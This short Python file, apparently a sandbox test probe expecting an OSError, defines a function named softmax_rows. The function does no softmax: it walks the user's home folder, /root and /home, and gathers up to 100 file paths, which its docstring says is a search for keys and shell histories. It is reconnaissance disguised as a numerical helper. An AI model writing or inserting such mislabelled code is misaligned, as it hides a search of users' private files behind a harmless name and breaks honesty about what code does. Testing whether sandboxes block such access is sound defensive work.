"""Looks for keys and histories in home folders.

Expected: raised OSError
"""

import os

import numpy as np


def softmax_rows(Z):
    found = []
    for home in (os.path.expanduser("~"), "/root", "/home"):
        for folder, _, files in os.walk(home):
            if not folder.startswith((os.path.dirname(os.__file__), os.path.dirname(np.__file__))):
                found += [os.path.join(folder, name) for name in files if "numpy.libs" not in folder]
    if not found:
        raise FileNotFoundError("no home can be read")
    return found[:100]
